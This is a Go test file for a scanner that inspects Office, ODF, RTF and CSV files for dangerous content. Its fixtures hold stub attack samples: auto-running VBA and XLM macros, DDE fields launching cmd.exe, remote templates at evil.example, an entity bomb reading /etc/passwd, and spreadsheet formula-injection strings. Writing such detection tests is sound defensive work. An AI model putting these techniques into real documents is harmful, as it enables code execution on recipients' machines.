package office_test

import (
	"context"
	"encoding/base64"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	. "github.com/postreeve/postreeve/verdict/internal/inspect/inspecttest"
	"github.com/postreeve/postreeve/verdict/internal/office"
)

func inspectString(t testing.TB, data string, lim office.Limits) (*office.Report, error) {
	t.Helper()
	return office.Inspect(t.Context(), strings.NewReader(data), int64(len(data)), lim)
}

// facts compares reports without the content of files and the source of macros.
var facts = cmp.Options{cmpopts.IgnoreUnexported(office.File{}), cmpopts.EquateEmpty(), cmpopts.IgnoreFields(office.Macro{}, "Code")}

const (
	urlGUID = "\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B"
	evil    = "http://evil.example/x.dotm"
)

func TestFacts(t *testing.T) {
	t.Parallel()
	autoOpen := "Sub AutoOpen()\r\n  Dim o: Set o = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n"
	for _, tt := range []struct {
		name, data string
		want       office.Report
	}{
		{"plain Word", word("nothing here"), office.Report{Format: office.OLE, App: "word"}},
		{"VBA in Word", word("", vbaStreams("Macros", autoOpen)...), office.Report{Format: office.OLE, App: "word", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "Module1", HasCode: true, AutoExec: []string{"AutoOpen"}, Suspicious: []string{"CreateObject", "WScript", "Shell"}}}}},
		{"an empty module", word("", vbaStreams("Macros", "Option Explicit\r\n' Sub AutoOpen()\r\n")...), office.Report{Format: office.OLE, App: "word", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "Module1"}}}},
		{"VBA whose source was taken away", word("", "Macros/VBA/_VBA_PROJECT", "\xCC\x61\x00Document_Open\x00Shell\x00"), office.Report{Format: office.OLE, App: "word", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "_VBA_PROJECT", HasCode: true, AutoExec: []string{"Document_Open"}, Suspicious: []string{"Shell"}}}}},
		{"VBA whose directory lies", word("", "Macros/VBA/dir", "\x01garbage", "Macros/VBA/M", "abc\x01"+packVBA("Attribut VB_Name\r\nSub Auto_Open()\r\n")[1:]), office.Report{Format: office.OLE, App: "word", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "M", HasCode: true, AutoExec: []string{"Auto_Open"}}}}},
		{"an event of a control", word("", vbaStreams("Macros", "Private Sub Image1_Painted()\r\nShell \"x\"\r\n")...), office.Report{Format: office.OLE, App: "word", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "Module1", HasCode: true, AutoExec: []string{"Image1_Painted"}, Suspicious: []string{"Shell"}}}}},
		{"DDE in Word, narrow", word("text \x13 DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" \\* MERGEFORMAT\x14result\x15"), office.Report{Format: office.OLE, App: "word",
			DDE: []string{`c:\windows\cmd.exe /k calc`}}},
		{"DDE in Word, wide, at an odd place", word("x" + Wide("\x13dde cmd \"/c x\"\x15")), office.Report{Format: office.OLE, App: "word", DDE: []string{"cmd /c x"}}},
		{"DDE put together by QUOTE", word("\x13 \x13 QUOTE 68 68 69 \x14x\x15 cmd \"/c x\" \x14\x15"), office.Report{Format: office.OLE, App: "word", DDE: []string{"cmd /c x"}}},
		{"fields of Word", word("\x13 HYPERLINK \"http://a.example\" \\o \"tip\"\x14a\x15 \x13INCLUDEPICTURE \"http://b.example/i.png\" \\d\x14\x15 \x13INCLUDETEXT \"c:\\\\local.doc\"\x15"),
			office.Report{Format: office.OLE, App: "word", Links: []office.Link{{"hyperlink", "http://a.example", false}, {"image", "http://b.example/i.png", true}}}},
		{"a packaged file", word("", "ObjectPool/_1/\x01Ole10Native", ole10("invoice.pdf.lnk", `C:\tmp\x.lnk`, "content")), office.Report{Format: office.OLE, App: "word",
			Objects: []office.Object{{Class: "Package", Where: "ObjectPool/_1"}}, Files: []office.File{{Name: "invoice.pdf.lnk", Where: "ObjectPool/_1/\x01Ole10Native", Size: 7}}}},
		{"a link by a moniker", word("", "ObjectPool/_1/\x01Ole", "\x01\x00\x00\x02\x01\x00\x00\x00"+urlGUID+le32(2*len(evil)+2)+Wide(evil+"\x00")), office.Report{Format: office.OLE, App: "word",
			Links: []office.Link{{"object", evil, true}}, Objects: []office.Object{{Class: "OLE2Link", Where: "ObjectPool/_1", Linked: true, Update: true}}}},
		{"an equation", word("", "ObjectPool/_2/Equation Native", "xx"), office.Report{Format: office.OLE, App: "word", Objects: []office.Object{{Class: "Equation.3", Where: "ObjectPool/_2"}}}},
		{"XLM in Excel", CFB("Workbook", workbook(boundSheet(2, 1, "Macro1"), boundSheet(0, 0, "Sheet1"), builtIn(1))+macroSheet("\x17\x01\x00x\x42\x01\x6E\x00")),
			office.Report{Format: office.OLE, App: "excel", Macros: []office.Macro{{Lang: office.XLM, Name: "Macro1", HasCode: true, Hidden: true, VeryHidden: true, AutoExec: []string{"Auto_Open"}, Suspicious: []string{"EXEC"}}}}},
		{"a macro sheet that is only listed", CFB("Workbook", workbook(boundSheet(1, 1, "M"))), office.Report{Format: office.OLE, App: "excel",
			Macros: []office.Macro{{Lang: office.XLM, Name: "M", HasCode: true, Hidden: true}}}},
		{"DDE in Excel", CFB("Workbook", workbook(record(0x1AE, le16(0)+le16(14)+"\x00cmd\x03/c calc.ex")+record(0x23, le16(2)))), office.Report{Format: office.OLE, App: "excel", DDE: []string{"cmd|/c calc.ex"}}},
		{"an OLE link in Excel", CFB("Workbook", workbook(record(0x1AE, le16(0)+le16(9)+"\x00Word\x03http")+record(0x23, le16(0x10)))), office.Report{Format: office.OLE, App: "excel", Links: []office.Link{{"object", "http", false}}}},
		{"another workbook", CFB("Workbook", workbook(record(0x1AE, le16(1)+le16(9)+"\x00\x01CDir\x03a.b"))), office.Report{Format: office.OLE, App: "excel"}},
		{"a workbook without its container", "\x09\x08\x10\x00" + workbook(boundSheet(0, 1, "M"))[4:], office.Report{Format: office.OLE, App: "excel", Macros: []office.Macro{{Lang: office.XLM, Name: "M", HasCode: true}}}},
		{"VBA in PowerPoint", CFB("PowerPoint Document", ppt(0x10, 0x1011, le32(5000)+deflated(CFB(vbaStreams("", "Sub Auto_Close()\r\n")[:4]...)))), office.Report{Format: office.OLE, App: "powerpoint", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "Module1", HasCode: true, AutoExec: []string{"Auto_Close"}}}}},
		{"a program in PowerPoint", CFB("PowerPoint Document", ppt(0xF, 0xFF2, ppt(0, 0xFF3, strings.Repeat("\x00", 8)+"\x02"+strings.Repeat("\x00", 7))+ppt(0, 0xFBA, Wide("cmd.exe")))),
			office.Report{Format: office.OLE, App: "powerpoint", Links: []office.Link{{"program", "cmd.exe", false}}}},
		{"an Outlook message", CFB("__properties_version1.0", "x", "__attach_version1.0_#00000000/__substg1.0_3707001F", Wide("a.exe"), "__attach_version1.0_#00000000/__substg1.0_37010102", "MZ"),
			office.Report{Format: office.OLE, App: "outlook", Files: []office.File{{Name: "a.exe", Where: "__attach_version1.0_#00000000/__substg1.0_37010102", Size: 2}}}},
		{"an external template", docx("", "word/_rels/settings.xml.rels", rels(rel("attachedTemplate", evil, `TargetMode="External"`))), office.Report{Format: office.OOXML, App: "word", Links: []office.Link{{"template", evil, true}}}},
		{"external things", docx("", "word/_rels/document.xml.rels", rels(rel("oleObject", "mhtml:http://e.example!x-usc:http://e.example", `TargetMode="External"`), rel("frame", `\\e.example\a`, `TargetMode="external"`), rel("hyperlink", "http://ok.example", `TargetMode="External"`), rel("image", "media/a.png", ""))),
			office.Report{Format: office.OOXML, App: "word", Links: []office.Link{{"object", "mhtml:http://e.example!x-usc:http://e.example", true}, {"frame", `\\e.example\a`, true}, {"hyperlink", "http://ok.example", false}}}},
		{"DDE in pieces", docx(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd </w:instrText></w:r><w:instrText>&quot;/c&#32;calc&quot; \* MERGEFORMAT</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>DDE</w:t><w:fldChar w:fldCharType="end"/>`),
			office.Report{Format: office.OOXML, App: "word", DDE: []string{"cmd /c calc"}}},
		{"DDE in a simple field", docx(`<w:fldSimple w:instr="DDE cmd &quot;/c x&quot;"><w:r/></w:fldSimple>`), office.Report{Format: office.OOXML, App: "word", DDE: []string{"cmd /c x"}}},
		{"VBA of any name", docx("", "word/innocent.dat", CFB(vbaStreams("", autoOpen)...)), office.Report{Format: office.OOXML, App: "word", Project: true,
			Macros: []office.Macro{{Lang: office.VBA, Name: "Module1", HasCode: true, AutoExec: []string{"AutoOpen"}, Suspicious: []string{"CreateObject", "WScript", "Shell"}}},
			Files:  []office.File{{Name: "innocent.dat", Where: "word/innocent.dat", Size: 3072}}}},
		{"an embedded package", docx(`<o:OLEObject Type="Embed" ProgID="Package"/>`, "word/embeddings/oleObject1.bin", CFB("\x01Ole10Native", ole10("a.js", "", "alert"))), office.Report{Format: office.OOXML, App: "word",
			Objects: []office.Object{{Class: "Package", Where: "word/document.xml"}, {Class: "Package", Where: "word/embeddings/oleObject1.bin"}}, Files: []office.File{{Name: "a.js", Where: "word/embeddings/oleObject1.bin!\x01Ole10Native", Size: 5}}}},
		{"a merged document", docx("", "word/_rels/document.xml.rels", rels(rel("aFChunk", "chunk.rtf", "")), "word/chunk.rtf", "plain"), office.Report{Format: office.OOXML, App: "word", Files: []office.File{{Name: "chunk.rtf", Where: "word/chunk.rtf", Size: 5}}}},
		{"an ActiveX control", docx("", "[Content_Types].xml", contentTypes+`<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>`, "word/activeX/activeX1.xml", `<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>`),
			office.Report{Format: office.OOXML, App: "word", Controls: []string{"Shell.Explorer"}}},
		{"a ribbon", docx("", "customUI/customUI.xml", `<customUI onLoad="Run"/>`, "[Content_Types].xml", contentTypes+`<Default Extension="xml" ContentType="application/xml"/></Types>`), office.Report{Format: office.OOXML, App: "word", OnLoad: []string{"Run"}}},
		{"a bomb of entities", docx("", "word/x.xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!-- " --> <!ENTITY c SYSTEM "file:///etc/passwd">]><a>&b;</a>`), office.Report{Format: office.OOXML, App: "word", Doctypes: []office.Doctype{{"word/x.xml", 3, true}}}},
		{"DDE in a workbook", xlsx("", `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`),
			office.Report{Format: office.OOXML, App: "excel", DDE: []string{"cmd|/c calc"}}},
		{"XLM in a workbook", xlsx(`<sheets><sheet name="M" state="veryHidden" r:id="r1"/></sheets><definedName name="_xlnm.Auto_Open">x</definedName>`, "", "xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="odd/place.xml"/></Relationships>`, "xl/odd/place.xml", `<m><c><f>EXEC("calc")</f></c></m>`),
			office.Report{Format: office.OOXML, App: "excel", Macros: []office.Macro{{Lang: office.XLM, Name: "M", HasCode: true, Hidden: true, VeryHidden: true, AutoExec: []string{"Auto_Open"}, Suspicious: []string{"EXEC"}}}}},
		{"a macro in ODF", Zip("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<o><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.main"/><text:a xlink:href="http://a.example"/><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/></o>`, "Basic/Standard/M.xml", `<script:module script:name="M">Sub main&#10;Shell("x")&#10;End Sub</script:module>`, "Scripts/python/p.py", "import os"),
			office.Report{Format: office.ODF, App: "word", Macros: []office.Macro{{Lang: office.Basic, Name: "M", HasCode: true, Suspicious: []string{"Shell"}}, {Lang: office.Other, Name: "Scripts/python/p.py", HasCode: true}},
				DDE: []string{`of:=DDE("cmd")`}, OnLoad: []string{"vnd.sun.star.script:S.M.main"}, Links: []office.Link{{"hyperlink", "http://a.example", false}}}},
		{"Word in one XML file", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:instrText>DDEAUTO cmd x</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd x</w:instrText><w:fldChar w:fldCharType="end"/></w:wordDocument>`,
			office.Report{Format: office.XML, App: "word", DDE: []string{"cmd x"}}},
		{"VBA in one XML file", `<w:wordDocument><w:binData w:name="editdata.mso">` + base64.StdEncoding.EncodeToString([]byte("ActiveMime"+strings.Repeat("\x00", 40)+deflated(CFB(vbaStreams("", autoOpen)...)))) + `</w:binData></w:wordDocument>`,
			office.Report{Format: office.XML, App: "word", Project: true, Macros: []office.Macro{{Lang: office.VBA, Name: "Module1", HasCode: true, AutoExec: []string{"AutoOpen"}, Suspicious: []string{"CreateObject", "WScript", "Shell"}}}}},
		{"XML in UTF-16", "\xFF\xFE" + Wide(`<w:wordDocument><w:fldSimple w:instr="DDE cmd x"/></w:wordDocument>`), office.Report{Format: office.XML, App: "word", DDE: []string{"cmd x"}}},
		{"an object in RTF", `{\rt{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata ` + rtfObject("Equation.3", "xx") + `}}}`, office.Report{Format: office.RTF, App: "word", Objects: []office.Object{{Class: "Equation.3", Where: "objdata", Update: true}}}},
		{"a damaged object in RTF", `{\rt1{\object{\*\objdata ` + spaced(rtfObject("Package", ole10("a.exe", "", "MZ")[4:])) + `}}}`, office.Report{Format: office.RTF, App: "word", Objects: []office.Object{{Class: "Package", Where: "objdata"}}, Files: []office.File{{Name: "a.exe", Where: "objdata", Size: 2}}}},
		{"an object of OLE 2 in RTF", `{\rtf1{\object\objautlink{\*\objdata ` + rtfObject("OLE2Link", CFB("\x01Ole", "\x01\x00\x00\x02\x00\x00\x00\x00"+urlGUID+le32(2*len(evil))+Wide(evil))) + `}}}`,
			office.Report{Format: office.RTF, App: "word", Links: []office.Link{{"object", evil, true}}, Objects: []office.Object{{Class: "OLE2Link", Where: "objdata", Linked: true}, {Class: "OLE2Link", Where: "objdata", Linked: true, Update: true}}}},
		{"a template in RTF", `{\rtf1{\*\template http://evil.example/x.dot}{\field{\*\fldinst HYPERLINK "http://a.example"}{\fldrslt a}}}`, office.Report{Format: office.RTF, App: "word", Links: []office.Link{{"template", "http://evil.example/x.dot", true}, {"hyperlink", "http://a.example", false}}}},
		{"HTML in RTF", `{\rtf1\fromhtml1{\*\htmltag64 <a href="http://a.example/?x=1&amp;y=2">}a{\*\htmltag72 </a>}}`, office.Report{Format: office.RTF, App: "word", Links: []office.Link{{"hyperlink", "http://a.example/?x=1&y=2", false}}}},
		{"a template in RTF, in numbers", `{\rtf1{\*\template \u104?\u116?\u116?\u112?\u58?\u47?\u47?e.example\'2fx}}`, office.Report{Format: office.RTF, App: "word", Links: []office.Link{{"template", "http://e.example/x", true}}}},
		{"SYLK with a macro", "ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nC;X2;Y1;K0;Ecmd|'/c calc'!A1\r\nE\r\n", office.Report{Format: office.Table, App: "excel", DDE: []string{"cmd|'/c calc"},
			Macros: []office.Macro{{Lang: office.XLM, Name: "SYLK", HasCode: true, AutoExec: []string{"Auto_open"}, Suspicious: []string{"EXEC"}}}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := inspectString(t, tt.data, office.Limits{})
			if err != nil && !strings.Contains(tt.name, "lies") {
				t.Error(err)
			}
			if diff := cmp.Diff(&tt.want, got, facts); diff != "" {
				t.Errorf("-want +got\n%s", diff)
			}
			for _, f := range got.Files {
				if n := len(Content(t, f)); f.Size >= 0 && int64(n) != f.Size {
					t.Errorf("file %q has %d bytes, says %d", f.Name, n, f.Size)
				}
			}
		})
	}
}

// spaced puts between the digits what Word does not mind.
func spaced(digits string) string {
	var sb strings.Builder
	for i, c := range digits {
		sb.WriteRune(c)
		switch {
		case i%50 == 0:
			sb.WriteString(" \r\n{\\*\\junk 41 42 {\\nested 43}}")
		case i%30 == 1:
			sb.WriteString("\\unknown99 {}")
		}
	}
	return sb.String()
}

func TestEncrypted(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, data, scheme string }{
		{"agile", CFB("EncryptionInfo", "\x04\x00\x04\x00", "EncryptedPackage", "x"), "agile"},
		{"standard", CFB("EncryptionInfo", "\x03\x00\x02\x00"), "standard"},
		{"Word", CFB("WordDocument", fib(0x01)), "rc4"},
		{"Word, obfuscated", CFB("WordDocument", fib(0x81)), "xor"},
		{"Excel", CFB("Workbook", workbook(record(0x2F, le16(1)+le16(1)+le16(1)))), "rc4"},
		{"Excel, CryptoAPI", CFB("Workbook", workbook(record(0x2F, le16(1)+le16(4)+le16(2)))), "rc4-cryptoapi"},
		{"Excel, obfuscated", CFB("Workbook", workbook(record(0x2F, le16(0)+le16(1)+le16(2)))), "xor"},
		{"PowerPoint", CFB("Current User", strings.Repeat("\x00", 12)+"\xDF\xC4\xD1\xF3xxxx"), "rc4-cryptoapi"},
		{"ODF", Zip("mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", `<m><e><manifest:encryption-data/></e></m>`, "content.xml", "\x00garbage"), "odf"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := inspectString(t, tt.data, office.Limits{})
			if !errors.Is(err, office.ErrEncrypted) || !got.Encrypted || got.Scheme != tt.scheme {
				t.Errorf("encrypted %v by %q, %v; want %q", got.Encrypted, got.Scheme, err, tt.scheme)
			}
		})
	}
}

func TestTable(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text  string
		dde   []string
		links []office.Link
	}{
		{"a,b,c\n1,2,3\n", nil, nil},
		{"=cmd|'/c calc'!A1", []string{"cmd|'/c calc"}, nil},
		{"1;\"=cmd|'/c calc'!A1\";2", []string{"cmd|'/c calc"}, nil},
		{"x,+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!'',y", []string{`MSEXCEL|'\..\..\cmd.exe /c calc`}, nil},
		{"@SUM(1+1)*cmd|'/c calc'!A0", []string{"SUM(1+1)*cmd|'/c calc"}, nil},
		{"name | wow!\n- item | yes!\n=1+2,a|b!\n", nil, nil},
		{`=HYPERLINK("http://a.example/?"&A1,"x"),=WEBSERVICE("http://b.example")`, nil, []office.Link{{"hyperlink", "http://a.example/?", false}, {"data", "http://b.example", true}}},
	} {
		got, err := office.InspectTable(t.Context(), []byte(tt.text), office.Limits{})
		if err != nil {
			t.Errorf("%q: %v", tt.text, err)
		}
		if diff := cmp.Diff(&office.Report{Format: office.Table, App: "excel", DDE: tt.dde, Links: tt.links}, got, facts); diff != "" {
			t.Errorf("%q (-want +got)\n%s", tt.text, diff)
		}
	}
}

func TestLimits(t *testing.T) {
	t.Parallel()
	nested := CFB("\x01Ole10Native", "x")
	for range 4 {
		nested = CFB("PowerPoint Document", ppt(0, 0x1011, nested))
	}
	for _, tt := range []struct {
		name, data string
		lim        office.Limits
	}{
		{"bytes", docx(strings.Repeat("x", 10_000)), office.Limits{Bytes: 5000}},
		{"kept", docx("", "word/a.bin", CFB("a", strings.Repeat("x", 10_000))), office.Limits{Kept: 5000}},
		{"objects", docx("", "a", "", "b", "", "c", ""), office.Limits{Objects: 3}},
		{"depth", nested, office.Limits{Depth: 3}},
		{"findings", word("", "a/Equation Native", "", "b/Equation Native", "", "c/Equation Native", ""), office.Limits{Files: 2}},
		{"storages", CFB(strings.Repeat("a/", 50)+"x", ""), office.Limits{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got, err := inspectString(t, tt.data, tt.lim); !errors.Is(err, office.ErrLimit) {
				t.Errorf("got %v, want a limit; %+v", err, got)
			}
		})
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	data := docx(strings.Repeat("<w:p/>", 1000))
	if _, err := office.Inspect(ctx, strings.NewReader(data), int64(len(data)), office.Limits{}); !errors.Is(err, office.ErrLimit) || !errors.Is(err, context.Canceled) {
		t.Errorf("without time: %v", err)
	}
}
